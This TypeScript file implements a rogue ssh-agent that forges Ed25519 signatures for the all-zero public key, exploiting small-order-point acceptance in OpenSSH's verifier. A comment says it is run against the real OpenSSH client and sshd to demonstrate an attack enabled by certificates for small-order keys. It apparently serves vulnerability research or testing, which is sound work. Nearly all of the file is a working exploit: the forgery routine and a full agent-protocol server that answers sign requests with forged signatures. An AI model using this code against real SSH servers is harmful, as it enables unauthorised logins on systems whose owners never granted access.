import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:net';

/**
 * An ssh-agent (draft-miller-ssh-agent section 4) that holds a certificate for the all-zero Ed25519
 * public key and no private key at all: it answers sign requests with a forged signature. This is the
 * attack a certificate for a small-order key enables, run against the real OpenSSH client and sshd.
 *
 * Why the forgery verifies: OpenSSH's Ed25519 verifier (ref10 `crypto_sign_ed25519_open`) accepts a
 * signature (R, S) when encode([S]B - [h]A) = R, h = SHA-512(R || A || M) mod L. The all-zero key A
 * decodes to the point (sqrt(-1), 0) of order 4, so with S = 0 the left side is [-h mod 4]A: one of
 * the four points O, A, 2A, 3A. For each of those four as R the agent computes h and checks whether
 * it lands on R itself; each does with probability 1/4, so some R works for about two messages in
 * three, and otherwise the login attempt fails and the next connection brings a new message.
 */
const L = (1n << 252n) + 27742317777372353535851937790883648493n;

// encode(k·A) for k = 0..3, A = the all-zero key: the identity (y = 1), A itself (y = 0, x even),
// 2A = (0, -1) (y = p - 1), 3A = -A (y = 0, x odd: the sign bit set).
const MULTIPLES = [
  Buffer.from(`01${'00'.repeat(31)}`, 'hex'),
  Buffer.alloc(32),
  Buffer.from(`ec${'ff'.repeat(30)}7f`, 'hex'),
  Buffer.from(`${'00'.repeat(31)}80`, 'hex'),
];
const ZERO_KEY = Buffer.alloc(32);

function littleEndian(b: Buffer): bigint {
  let n = 0n;
  for (let i = b.length - 1; i >= 0; i--) n = (n << 8n) | BigInt(b[i]!);
  return n;
}

/** R || S with S = 0 such that ref10 accepts it for the all-zero key and `message`, if one exists. */
export function forgeZeroKeySignature(message: Buffer): Buffer | undefined {
  for (let k = 0; k < 4; k++) {
    const r = MULTIPLES[k]!;
    const h = littleEndian(createHash('sha512').update(r).update(ZERO_KEY).update(message).digest()) % L;
    // [S]B - [h]A with S = 0 is [-h]A = [(4 - h mod 4) mod 4]A.
    if (Number((4n - (h % 4n)) % 4n) === k) return Buffer.concat([r, Buffer.alloc(32)]);
  }
  return undefined;
}

export const ZERO_KEY_LINE = `ssh-ed25519 ${sshString(Buffer.from('ssh-ed25519'), ZERO_KEY).toString('base64')}`;

function sshString(...parts: Buffer[]): Buffer {
  return Buffer.concat(
    parts.map((p) => {
      const len = Buffer.alloc(4);
      len.writeUInt32BE(p.length);
      return Buffer.concat([len, p]);
    }),
  );
}

export interface ForgingAgent {
  readonly socket: string;
  /** Sign requests answered, and how many of them with a signature that verifies. */
  readonly stats: { requests: number; forged: number };
  close(): Promise<void>;
}

export async function startForgingAgent(socket: string, certificateBlob: Buffer): Promise<ForgingAgent> {
  const stats = { requests: 0, forged: 0 };
  const server: Server = createServer((conn) => {
    let buf = Buffer.alloc(0);
    conn.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 4 && buf.length >= 4 + buf.readUInt32BE(0)) {
        const len = buf.readUInt32BE(0);
        const msg = buf.subarray(4, 4 + len);
        buf = buf.subarray(4 + len);
        conn.write(answer(msg));
      }
    });
    conn.on('error', () => undefined);
  });

  function frame(type: number, body: Buffer): Buffer {
    const head = Buffer.alloc(5);
    head.writeUInt32BE(body.length + 1);
    head[4] = type;
    return Buffer.concat([head, body]);
  }

  function answer(msg: Buffer): Buffer {
    const type = msg[0];
    if (type === 11) {
      // SSH_AGENTC_REQUEST_IDENTITIES → SSH_AGENT_IDENTITIES_ANSWER: one identity, the certificate.
      const count = Buffer.alloc(4);
      count.writeUInt32BE(1);
      return frame(12, Buffer.concat([count, sshString(certificateBlob, Buffer.from('no private key'))]));
    }
    if (type === 13) {
      // SSH_AGENTC_SIGN_REQUEST: string key blob, string data, uint32 flags.
      const keyLen = msg.readUInt32BE(1);
      const dataLen = msg.readUInt32BE(5 + keyLen);
      const data = msg.subarray(9 + keyLen, 9 + keyLen + dataLen);
      stats.requests++;
      const forged = forgeZeroKeySignature(data);
      if (forged) stats.forged++;
      const sig = sshString(
        Buffer.from('ssh-ed25519'),
        forged ?? Buffer.concat([MULTIPLES[0]!, Buffer.alloc(32)]),
      );
      return frame(14, sshString(sig));
    }
    return frame(5, Buffer.alloc(0)); // SSH_AGENT_FAILURE
  }

  await new Promise<void>((resolve) => server.listen(socket, resolve));
  return {
    socket,
    stats,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
